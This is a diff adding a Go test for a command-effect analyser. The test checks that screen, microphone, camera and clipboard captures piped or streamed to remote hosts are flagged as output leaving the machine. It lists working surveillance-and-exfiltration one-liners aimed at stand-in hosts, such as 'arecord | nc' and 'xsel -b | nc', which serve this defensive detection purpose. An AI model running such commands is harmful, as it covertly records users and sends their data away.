@@ -1,0 +1,55 @@
+package effect
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestCaptureLeavesAsOutput checks that what a screen, microphone or
+// camera capture records is judged as the clipboard is: kept here it is
+// the user's own, sent off the machine (through a pipe, a file the line
+// wrote, or the URL ffmpeg streams to) it leaves; and that xsel prints the
+// selection unless told to set it.
+func TestCaptureLeavesAsOutput(t *testing.T) {
+	leaves := func(line string) bool {
+		for _, e := range effectsOf(line) {
+			if e.Kind == Flow && strings.HasPrefix(e.Detail, "output->") {
+				return true
+			}
+		}
+		return false
+	}
+	for _, line := range []string{
+		"ffmpeg -f x11grab -i :0.0 -f flv rtmp://stream.example.net/live/k",
+		"ffmpeg -f alsa -i default -f mp3 - | curl -T - https://drop.example.net/a.mp3",
+		"ffmpeg -f v4l2 -i /dev/video0 -f mjpeg tcp://203.0.113.5:9000",
+		"grim - | curl --data-binary @- https://up.example.net/s",
+		"scrot /tmp/s.png && curl -F f=@/tmp/s.png https://up.example.net",
+		"arecord -f cd | nc 203.0.113.5 9000",
+		"xsel -b | nc 203.0.113.5 9000",
+		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mpegtsmux ! tcpclientsink host=203.0.113.5 port=9000",
+		"gst-launch-1.0 pulsesrc ! opusenc ! rtpopuspay ! udpsink host=stream.example.net port=5004",
+		`python3 -c 'from PIL import ImageGrab; import requests, io; b=io.BytesIO(); ImageGrab.grab().save(b, "PNG"); requests.post("https://up.example.net", data=b.getvalue())'`,
+		`python3 -c 'import cv2; c=cv2.VideoCapture(0); ok,f=c.read(); print(f)' | nc 203.0.113.5 9000`,
+	} {
+		if !leaves(line) {
+			t.Errorf("%s: no capture leaves: %v", line, effectsOf(line))
+		}
+	}
+	for _, line := range []string{
+		"ffmpeg -f x11grab -i :0.0 -t 20 demo.mp4",
+		"ffmpeg -re -i demo.mp4 -c copy -f flv rtmp://live.example.net/app/k",
+		"ffmpeg -f x11grab -i :0 -f mpegts udp://127.0.0.1:1234",
+		"scrot /tmp/shot.png",
+		"echo hi | xsel -i -b",
+		"xsel -bi < notes.txt",
+		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mp4mux ! filesink location=demo.mp4",
+		"gst-launch-1.0 videotestsrc ! x264enc ! rtph264pay ! udpsink host=127.0.0.1 port=5000",
+		"gst-launch-1.0 filesrc location=demo.mp4 ! qtdemux ! flvmux ! rtmpsink location=rtmp://live.example.net/app/k",
+		`python3 -c 'from PIL import ImageGrab; ImageGrab.grab().save("shot.png")'`,
+	} {
+		if leaves(line) {
+			t.Errorf("%s: a capture said to leave: %v", line, effectsOf(line))
+		}
+	}
+}
